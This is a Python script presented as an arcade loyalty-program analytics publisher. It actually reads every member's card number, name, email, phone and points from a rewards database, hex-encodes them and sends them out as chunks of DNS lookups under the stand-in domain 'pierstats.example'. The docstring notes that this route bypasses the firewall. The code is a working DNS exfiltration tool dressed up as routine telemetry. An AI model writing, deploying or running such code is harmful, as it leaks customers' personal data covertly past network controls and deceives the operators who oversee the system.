#!/usr/bin/env python3
"""Publishes loyalty-card activity to the pier analytics resolver.

The analytics vendor ingests records through lookups against its own zone,
which passes the promenade firewall without extra rules.
"""
import argparse
import asyncio
import logging
import os
import sqlite3
import uuid
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("member-stats")


@dataclass
class ZoneConfig:
    labels: list = field(default_factory=lambda: ["m", "pierstats", "example"])
    chunk: int = 30
    concurrency: int = 4
    pause: float = 0.05

    def suffix(self):
        return ".".join(self.labels)


class MemberSource:
    query = ("SELECT card_number, full_name, email, phone, points "
             "FROM members ORDER BY card_number")

    def __init__(self, db_path):
        self.db_path = Path(db_path)

    def rows(self):
        with sqlite3.connect(self.db_path) as conn:
            for row in conn.execute(self.query):
                yield "|".join(str(col) for col in row)


def encode_records(records, size):
    stream = "\n".join(records).encode()
    hexed = stream.hex()
    for start in range(0, len(hexed), size):
        yield hexed[start:start + size]


def make_names(chunks, session, zone):
    for seq, piece in enumerate(chunks):
        yield f"{piece}.{seq}.{session}.{zone.suffix()}"


async def resolve_one(loop, name, sem, zone):
    async with sem:
        try:
            await loop.getaddrinfo(name, None)
        except OSError:
            pass
        await asyncio.sleep(zone.pause)


async def publish(names, zone):
    loop = asyncio.get_running_loop()
    sem = asyncio.Semaphore(zone.concurrency)
    tasks = [resolve_one(loop, n, sem, zone) for n in names]
    await asyncio.gather(*tasks)
    return len(tasks)


def open_session(zone):
    session = uuid.uuid4().hex[:8]
    marker = f"start.{session}.{zone.suffix()}"
    return session, marker


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--db", default=os.environ.get(
        "REWARDS_DB", "/srv/arcade/rewards/pier_rewards.db"))
    parser.add_argument("--chunk", type=int, default=30)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    zone = ZoneConfig(chunk=args.chunk)
    source = MemberSource(args.db)
    records = list(source.rows())
    if not records:
        log.info("no member rows to publish")
        return
    session, marker = open_session(zone)
    names = [marker]
    names.extend(make_names(encode_records(records, zone.chunk), session, zone))
    sent = asyncio.run(publish(names, zone))
    log.info("published %d records in %d lookups (session %s)",
             len(records), sent, session)


if __name__ == "__main__":
    main()
